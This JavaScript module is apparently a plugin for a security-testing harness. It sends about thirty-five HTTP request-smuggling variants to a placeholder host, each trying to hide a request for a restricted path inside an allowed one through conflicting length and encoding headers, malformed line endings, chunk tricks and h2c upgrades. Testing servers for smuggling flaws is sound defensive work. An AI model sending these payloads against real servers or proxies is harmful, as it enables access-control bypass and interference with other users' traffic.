// Requests that two readers take for different ones, to have one pass inside another.
import { plugin } from "./hostile.mjs";
import { statuses, together } from "./net.mjs";

const host = "strict.smuggle.example";
const inner = `GET /closed HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
const send = (...lines) => statuses({ host }, lines.join("\r\n"), 700);
const post = (headers, body) => send("POST /open/x HTTP/1.1", `Host: ${host}`, ...headers, "", body);
const chunk = (text) => `${text.length.toString(16)}\r\n${text}\r\n`;

export default plugin("hostile-network-smuggle", {
  attack: () => together({
    granted: post(["Content-Length: 2"], "ok"),
    "granted, chunked": post(["Transfer-Encoding: chunked"], `${chunk("ok")}0\r\n\r\n`),
    "in a body": post([`Content-Length: ${inner.length}`], inner),
    "in a chunk": post(["Transfer-Encoding: chunked"], `${chunk(inner)}0\r\n\r\n`),
    "in a chunk extension": post(["Transfer-Encoding: chunked"], `2;a="\r\n${inner}"\r\nok\r\n0\r\n\r\n`),
    "in a trailer": post(["Transfer-Encoding: chunked"], `0\r\nX: y\r\n${inner}\r\n`),
    "after it": post(["Content-Length: 2"], `ok${inner}`),
    "length and chunked": post([`Content-Length: ${5 + inner.length}`, "Transfer-Encoding: chunked"], `0\r\n\r\n${inner}`),
    "chunked and length": post(["Transfer-Encoding: chunked", "Content-Length: 4"], `${chunk(inner)}0\r\n\r\n`),
    "two lengths": post(["Content-Length: 0", `Content-Length: ${inner.length}`], inner),
    "a list of lengths": post([`Content-Length: 0, ${inner.length}`], inner),
    "a negative length": post(["Content-Length: -1"], inner),
    "a signed length": post([`Content-Length: +${inner.length}`], inner),
    "a length of hex": post(["Content-Length: 0x10"], inner),
    "two encodings": post(["Transfer-Encoding: chunked", "Transfer-Encoding: identity"], `0\r\n\r\n${inner}`),
    "an odd encoding": post(["Transfer-Encoding: xchunked"], `0\r\n\r\n${inner}`),
    "a list of encodings": post(["Transfer-Encoding: chunked, identity"], `0\r\n\r\n${inner}`),
    "a tab in the encoding": post(["Transfer-Encoding:\x0bchunked"], `0\r\n\r\n${inner}`),
    "a space before the colon": post(["Transfer-Encoding : chunked", "Content-Length: 4"], `0\r\n\r\n${inner}`),
    "a folded line": post(["X: y", " Transfer-Encoding: chunked", "Content-Length: 0"], inner),
    "a bare line feed": post([`X: y\nContent-Length: ${inner.length}`], inner),
    "a bare carriage return": post([`X: y\rContent-Length: ${inner.length}`, "Content-Length: 0"], inner),
    "a zero byte": post(["X: y\0z", "Content-Length: 0"], inner),
    "a line in a value": post(["X: y\n\nGET /closed HTTP/1.1", "Content-Length: 0"], ""),
    "an underscore": post(["Transfer_Encoding: chunked", "Content-Length: 0"], inner),
    "a size that overflows": post(["Transfer-Encoding: chunked"], `10000000000000000\r\n${inner}`),
    "a size with a sign": post(["Transfer-Encoding: chunked"], `+2\r\nok\r\n0\r\n\r\n${inner}`),
    "HTTP/0.9": send("GET /closed", "", ""),
    "HTTP/1.0, chunked": send("POST /open/x HTTP/1.0", `Host: ${host}`, "Connection: keep-alive", "Transfer-Encoding: chunked", "", `0\r\n\r\n${inner}`),
    "a body in GET": send("GET /open/x HTTP/1.1", `Host: ${host}`, "Content-Length: 0", "", inner),
    "two request lines": send("GET /open/x HTTP/1.1 GET /closed HTTP/1.1", `Host: ${host}`, "", ""),
    "spaces in the line": send("GET /open/x /closed HTTP/1.1", `Host: ${host}`, "", ""),
    "h2c": send("GET /open/x HTTP/1.1", `Host: ${host}`, "Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA", "", inner),
    "a preface": send("PRI * HTTP/2.0", "", "SM", "", ""),
    "hop by hop": send("GET /open/x HTTP/1.1", "Connection: close, Host, Content-Length", `Host: ${host}`, "Content-Length: 0", "", inner),
  }),
});
